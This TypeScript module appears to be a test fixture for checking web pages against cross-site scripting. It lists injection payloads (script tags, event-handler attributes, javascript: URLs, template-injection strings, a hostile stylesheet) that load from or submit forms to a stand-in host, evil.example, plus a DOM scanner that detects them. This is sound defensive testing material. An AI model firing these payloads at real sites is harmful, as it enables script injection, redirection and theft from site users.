/** Where everything that a payload does goes to. */
export const evil = "https://evil.example";
const act = "globalThis.outpostCanary=1";

/** What runs, loads or leads elsewhere where a page takes somebody's text for markup, an attribute, an address, a style or a template. */
export const payloads: readonly string[] = [
  `<script>${act}</script>`,
  `</script><script>${act}</script>`,
  `</title></textarea></style><script>${act}</script>`,
  `"><img src=x onerror="${act}">`,
  `'><svg onload='${act}'>`,
  `" autofocus onfocus=${act} x="`,
  `' onmouseover=${act} '`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<details open ontoggle=${act}>`,
  `<a href="javascript:${act}">click</a>`,
  `javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `<img src=${evil}/i.png><link rel=stylesheet href=${evil}/s.css>`,
  `<meta http-equiv=refresh content="0;url=${evil}/">`,
  `<base href=${evil}/><form action=${evil}/><button>Send</button></form>`,
  `<style>@import url(${evil}/x.css);</style>`,
  `<x xmlns="http://www.w3.org/1999/xhtml"><script>${act}</script></x>`,
  `]]><!--<script>${act}</script>-->`,
  `{{constructor.constructor("${act}")()}}`,
  `\${${act}}`,
  `\u202e<ScRiPt/x>${act}</ScRiPt >\u2028`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
];

/** All of them, for what may be long. */
export const manyPayloads = payloads.join("\n");

/** A style that tries to load, to run and to leave its element. */
export const hostileCss = `@import url(${evil}/a.css); @font-face { font-family: f; src: url(${evil}/f.woff); }
body { background: url(${evil}/b.png); font-family: f; behavior: url(${evil}/x.htc); -moz-binding: url(${evil}/x.xml#x); }
h1::before { content: url(javascript:${act}); } </style><script>${act}</script><style>`;

/** What stands in a page where somebody's text became part of it: an expression for the page. */
export const becameMarkup = `(() => {
  const marks = "[onerror], [onload], [onfocus], [onmouseover], [ontoggle], iframe, object, embed, base, body style, body script, body link, body meta, meta[http-equiv]";
  const leads = [...document.querySelectorAll("[href], [src], [action], [formaction], [srcset]")].filter((one) =>
    ["href", "src", "action", "formaction", "srcset"].some((name) => /^\\s*(javascript|data:text|vbscript):|evil\\.example/i.test(one.getAttribute(name) ?? "")));
  const found = [...document.querySelectorAll(marks), ...leads].map((one) => one.outerHTML.slice(0, 200));
  return "outpostCanary" in globalThis ? [...found, "a payload has run"] : found;
})()`;
